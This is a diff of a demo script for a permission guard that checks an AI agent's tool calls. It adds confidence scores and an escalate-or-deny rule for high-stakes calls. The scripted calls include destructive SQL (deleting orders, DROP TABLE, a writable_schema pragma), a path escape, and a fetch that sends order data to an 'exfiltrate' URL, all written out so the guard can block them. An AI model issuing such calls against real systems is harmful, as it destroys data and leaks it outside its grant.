@@ -61,23 +61,26 @@ demo: plugins
     # the agent looks at the orders
     {"tool": "db_query", "args": {"sql": "SELECT status, count(*) AS orders FROM orders GROUP BY status"}}
     # asked to "clean up the data", it deletes every order that is not open...
-    {"tool": "db_execute", "args": {"sql": "DELETE FROM orders WHERE status <> 'open'"}}
+    {"tool": "db_execute", "confidence": 0.9, "args": {"sql": "DELETE FROM orders WHERE status <> 'open'"}}
     # ...and is told the numbers; so is the cleanup tool, which tries the same
-    {"tool": "cleanup", "args": {"table": "orders", "keep_status": ["open"]}}
-    # a cleanup the size of the problem goes through
+    {"tool": "cleanup", "confidence": 0.9, "args": {"table": "orders", "keep_status": ["open"]}}
+    # a high-stakes call made without confidence escalates to a person; with nobody at
+    # this terminal, that is a deny
     {"tool": "db_execute", "args": {"sql": "DELETE FROM orders WHERE status = 'test'"}}
+    # the same cleanup, the size of the problem and made with confidence, goes through
+    {"tool": "db_execute", "confidence": 0.9, "args": {"sql": "DELETE FROM orders WHERE status = 'test'"}}
     # outside the grant: another table, a schema change, a pragma
     {"tool": "db_query", "args": {"sql": "SELECT email FROM customers"}}
-    {"tool": "db_execute", "args": {"sql": "DROP TABLE orders"}}
-    {"tool": "db_execute", "args": {"sql": "PRAGMA writable_schema = ON"}}
+    {"tool": "db_execute", "confidence": 0.9, "args": {"sql": "DROP TABLE orders"}}
+    {"tool": "db_execute", "confidence": 0.9, "args": {"sql": "PRAGMA writable_schema = ON"}}
     # the file organizer sorts the workspace into folders...
     {"tool": "organize", "args": {}}
     # ...may not step outside it...
     {"tool": "organize", "args": {"folder": "../"}}
     # ...and removing 8 temporary files, over its limit of 5 deletions, removes none
-    {"tool": "tidy", "args": {"folder": "tmp", "suffixes": [".tmp"]}}
+    {"tool": "tidy", "confidence": 0.9, "args": {"folder": "tmp", "suffixes": [".tmp"]}}
     # the network: only allow-listed origins
-    {"tool": "fetch", "args": {"url": "https://example.com/exfiltrate?data=orders"}}
+    {"tool": "fetch", "confidence": 0.9, "args": {"url": "https://example.com/exfiltrate?data=orders"}}
     SESSION
     printf '\nthe workspace afterwards (every .tmp file is still there: the refused call was rolled back):\n'
     (cd target/demo/workspace && find . -type f | sort | sed 's/^/  /')
